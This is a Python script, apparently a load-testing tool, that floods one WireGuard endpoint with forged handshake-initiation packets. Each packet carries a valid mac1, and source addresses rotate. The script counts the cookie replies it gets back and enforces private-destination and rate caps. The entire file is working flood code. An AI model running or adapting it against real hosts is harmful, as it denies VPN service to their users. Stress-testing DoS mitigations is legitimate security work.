#!/usr/bin/env python3
"""Bounded WireGuard handshake-initiation flood generator (test tool).

Sends forged type-1 messages (wireguard.com/protocol "First Message") to one
victim: random sender index, random ephemeral, random encrypted_static and
encrypted_timestamp (so they fail after the first DH), and a correct mac1,
which needs only the victim's public key:

    mac1 = MAC(HASH(LABEL_MAC1 || responder.static_public), msg[0:116])
    HASH = BLAKE2s-256, MAC = keyed BLAKE2s-128, LABEL_MAC1 = "mac1----"

mac2 is zero (we never hold a cookie), so a victim under load must answer with
cookie replies (type 3, 64 bytes) instead of doing the DH.

Source addresses rotate over --src (addresses that must be assigned to an
interface of this network namespace): each datagram leaves with IP_PKTINFO
naming its source, so one socket bound to the wildcard address sends from all
of them and receives every reply. Hard bounds: --max-packets and --seconds
(both capped below), and the destination must be a private/loopback address.

Prints one JSON object: sent, cookie_replies (type 3 carrying one of our
sender indices), other_replies, sources_answered, elapsed.
"""
import argparse
import base64
import hashlib
import ipaddress
import json
import os
import select
import socket
import struct
import sys
import time

IP_PKTINFO = getattr(socket, "IP_PKTINFO", 8)  # <linux/in.h>; Python < 3.12 lacks the constant
HARD_MAX_PACKETS = 2_000_000
HARD_MAX_SECONDS = 60.0
POOL = 4096  # distinct forged messages, reused round-robin


def mac1_key(victim_pub: bytes) -> bytes:
    return hashlib.blake2s(b"mac1----" + victim_pub).digest()


def forged_initiation(key: bytes) -> tuple[bytes, int]:
    sender = struct.unpack("<I", os.urandom(4))[0]
    body = (
        struct.pack("<B3xI", 1, sender)  # type 1, reserved, sender_index (LE)
        + os.urandom(32)  # unencrypted_ephemeral
        + os.urandom(32 + 16)  # encrypted_static (AEAD_LEN(32))
        + os.urandom(12 + 16)  # encrypted_timestamp (AEAD_LEN(12))
    )
    assert len(body) == 116
    mac1 = hashlib.blake2s(body, key=key, digest_size=16).digest()
    return body + mac1 + bytes(16), sender  # mac2 = zeros


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--victim-pub", required=True, help="base64 public key")
    ap.add_argument("--dst", required=True, help="victim IPv4 address")
    ap.add_argument("--port", type=int, default=51820)
    ap.add_argument("--src", required=True, help="comma-separated source IPv4 addresses")
    ap.add_argument("--sport", type=int, default=0, help="local UDP port (0 = any)")
    ap.add_argument("--max-packets", type=int, default=200_000)
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--pps", type=int, default=0, help="pace to this many packets/s (0 = as fast as possible)")
    a = ap.parse_args()

    dst = ipaddress.IPv4Address(a.dst)
    if not (dst.is_private or dst.is_loopback):
        sys.exit("refusing a non-private destination")
    max_packets = min(a.max_packets, HARD_MAX_PACKETS)
    seconds = min(a.seconds, HARD_MAX_SECONDS)
    sources = [socket.inet_aton(s.strip()) for s in a.src.split(",") if s.strip()]
    if not sources:
        sys.exit("no source addresses")

    pub = base64.b64decode(a.victim_pub)
    if len(pub) != 32:
        sys.exit("bad public key")
    key = mac1_key(pub)
    pool, senders = [], set()
    for _ in range(POOL):
        msg, sender = forged_initiation(key)
        pool.append(msg)
        senders.add(sender)
    anc = [[(socket.IPPROTO_IP, IP_PKTINFO, struct.pack("I4s4s", 0, s, bytes(4)))] for s in sources]

    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    sock.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)  # learn which source was answered
    sock.bind(("0.0.0.0", a.sport))
    sock.setblocking(False)
    target = (str(dst), a.port)

    cookies = other = 0
    answered = set()

    def drain() -> None:
        nonlocal cookies, other
        while True:
            try:
                data, ancdata, _flags, _frm = sock.recvmsg(2048, socket.CMSG_SPACE(12))
            except BlockingIOError:
                return
            if len(data) == 64 and data[0] == 3 and data[1:4] == bytes(3):
                (receiver,) = struct.unpack_from("<I", data, 4)
                if receiver in senders:
                    cookies += 1
                    for level, kind, blob in ancdata:
                        if level == socket.IPPROTO_IP and kind == IP_PKTINFO and len(blob) >= 12:
                            answered.add(blob[8:12])  # in_pktinfo.ipi_addr: header destination
                    continue
            other += 1

    sent = 0
    start = time.monotonic()
    deadline = start + seconds
    i = 0
    while sent < max_packets:
        now = time.monotonic()
        if now >= deadline:
            break
        if a.pps and sent > (now - start) * a.pps:
            time.sleep(0.001)
            drain()
            continue
        try:
            sock.sendmsg([pool[i % POOL]], anc[i % len(anc)], 0, target)
            sent += 1
        except (BlockingIOError, OSError):
            drain()  # socket buffer full: let replies in, try again
        i += 1
        if i % 256 == 0:
            drain()
    # Late replies (the victim may still be working through its queue).
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        select.select([sock], [], [], 0.1)
        drain()
    print(
        json.dumps(
            {
                "sent": sent,
                "cookie_replies": cookies,
                "other_replies": other,
                "sources": len(sources),
                "sources_answered": len(answered),
                "elapsed": round(time.monotonic() - start, 3),
            }
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
